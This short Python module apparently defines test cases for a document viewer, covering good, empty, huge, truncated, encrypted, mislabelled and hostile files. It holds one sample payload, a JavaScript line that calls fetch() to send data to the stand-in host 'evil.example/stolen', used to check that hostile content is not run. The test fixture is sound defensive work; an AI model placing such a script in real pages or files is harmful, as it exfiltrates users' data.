"""What a file of the corpus is, and what the desk shows of it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

HOST = "evil.example"
"""Where hostile files would send something to."""

ALERT = f'alert("run"); fetch("https://{HOST}/stolen")'
"""What hostile files would run."""


@dataclass(frozen=True, slots=True)
class Case:
    """`nature`: good, empty, huge, truncated, encrypted, mislabelled or hostile. `kind`: as what it opens
    (`render.kind`). `says`: words that the page shows, tags left out."""

    name: str
    nature: str
    about: str
    make: Callable[[], bytes]
    kind: str
    says: str

    def __str__(self) -> str:
        return self.name
